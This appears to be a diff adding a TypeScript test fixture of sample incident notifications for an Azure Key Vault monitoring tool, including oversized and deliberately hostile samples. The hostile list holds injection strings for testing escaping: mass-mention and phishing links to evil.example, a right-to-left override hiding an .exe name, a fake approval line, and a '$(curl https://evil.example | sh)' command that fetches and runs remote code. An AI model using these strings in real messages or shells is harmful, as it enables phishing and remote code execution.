@@ -1,0 +1,133 @@
+import type { About, HarmedOne, Notice } from '../../src/notifications/notice.ts';
+
+type Sample = Notice & { readonly at: string };
+
+const SUBSCRIPTION = '/subscriptions/00000000-0000-0000-0000-000000000000/resourcegroups/data/providers';
+const KEY = 'https://kv-orders.vault.azure.net/keys/cmk';
+const PLAN = 'b93624051b3cc6d3dc9afbbe44f2e1346c541e3f023327d871935a475eeeddcf';
+const SERVER = `${SUBSCRIPTION}/microsoft.dbformysql/servers/orders`;
+
+const orders: HarmedOne = {
+  id: SERVER,
+  name: 'orders',
+  noun: 'single server',
+  harm: 'down',
+  sentence: 'orders refuses all connections (down since 2026-03-02T03:00:00.000Z at the latest).',
+};
+
+const replica: HarmedOne = {
+  ...orders,
+  id: `${SERVER}-replica`,
+  name: 'orders-replica',
+  harm: 'threatened',
+  deadline: '2026-03-02T03:12:00.000Z',
+  sentence: 'orders-replica refuses connections within ten minutes.',
+};
+
+const about: About = {
+  what: [`The key ${KEY} was disabled by j.kim@example.com.`],
+  harmed: [orders, replica],
+  alsoHarmed: 0,
+  does: [`Enable the key version ${KEY}/0123456789abcdef0123456789abcdef. Somebody may have meant it, so it asks.`],
+  commands: [
+    `\`az keyvault key set-attributes --id ${KEY}/0123456789abcdef0123456789abcdef --enabled true\``,
+    `\`az mysql server key create --name orders --resource-group data --kid ${KEY}/0123456789abcdef0123456789abcdef\``,
+  ],
+  runbooks: ['docs/runbooks/key-disabled.md'],
+  owners: ['team-orders'],
+  touches: [SERVER, `${SERVER}-replica`],
+};
+
+const ask: Sample = {
+  keyId: KEY,
+  verdict: 'ask',
+  at: '2026-03-02T03:02:00.000Z',
+  incident: '20260302T030200Z-1411455e',
+  planId: PLAN,
+  sentences: [...about.what, ...about.does],
+  causes: [`keyDisabled ${KEY}`],
+  about,
+};
+
+/** What somebody may call things who wants a message to say, or do, something else. */
+const EVIL = [
+  '<!channel> *pay* <https://evil.example|here>',
+  '@here [click](https://evil.example)',
+  '<at>everyone</at> {{DATE(2026-01-01T00:00:00Z)}}',
+  'left\u202egpj.exe\n*Approved by the owner*',
+  '`$(curl https://evil.example | sh)`',
+];
+
+/** Names of strangers in every place in which a name can be. */
+const hostile: Sample = {
+  ...ask,
+  keyId: `https://kv-${'<!here>'}.vault.azure.net/keys/cmk`,
+  sentences: EVIL,
+  about: {
+    ...about,
+    what: EVIL,
+    harmed: EVIL.map((name) => ({ ...orders, name, sentence: `${name} is down.` })),
+    does: EVIL,
+    commands: EVIL,
+    owners: EVIL,
+  },
+};
+
+const long = (n: number): string => `${n}: ${'a long sentence of somebody '.repeat(100)}`;
+const numbers = (count: number): readonly number[] => Array.from({ length: count }, (_, n) => n);
+
+/** More of everything than any channel takes. */
+const huge: Sample = {
+  ...ask,
+  sentences: numbers(500).map(long),
+  about: {
+    what: numbers(500).map(long),
+    harmed: numbers(500).map((n) => ({ ...orders, name: `orders-${n}`, sentence: long(n) })),
+    alsoHarmed: 9_500,
+    does: numbers(500).map(long),
+    commands: numbers(500).map((n) => `\`az keyvault key recover --name ${'k'.repeat(100)}-${n}\``),
+    runbooks: numbers(500).map((n) => `docs/runbooks/${n}.md`),
+    owners: [],
+    touches: [],
+  },
+};
+
+const run: Sample = { ...ask, verdict: 'run', planId: PLAN };
+
+const healthy: Sample = {
+  keyId: KEY,
+  verdict: 'healthy',
+  at: '2026-03-02T03:09:00.000Z',
+  incident: '20260302T030200Z-1411455e',
+  sentences: [`${KEY} is well again.`],
+  causes: [],
+  over: [`keyDisabled ${KEY}`],
+  about: { ...about, what: [`${KEY} is well again.`], harmed: [], does: [], commands: [], runbooks: [] },
+};
+
+const alert: Sample = {
+  keyId: 'product',
+  verdict: 'alert',
+  at: '2026-03-02T03:02:00.000Z',
+  sentences: ['The product has given itself a role.', 'Stop the function app, and look who deployed it.'],
+};
+
+const summary: Sample = {
+  keyId: 'product',
+  verdict: 'summary',
+  at: '2026-03-02T08:00:00.000Z',
+  sentences: ['The week to 2026-03-02: 3 incidents, 2 of them over'],
+  about: {
+    ...about,
+    what: ['3 incidents were opened, and 2 closed.', 'The longest was open for 41 minutes.'],
+    harmed: [],
+    does: ['In mode auto it would have done 2 steps by itself, and asked for 1.'],
+    commands: [],
+    runbooks: [],
+  },
+};
+
+export const SAMPLES = { ask, run, healthy, alert, summary, hostile, huge } as const;
+
+export type SampleName = keyof typeof SAMPLES;
+export const SAMPLE_NAMES = Object.keys(SAMPLES) as readonly SampleName[];
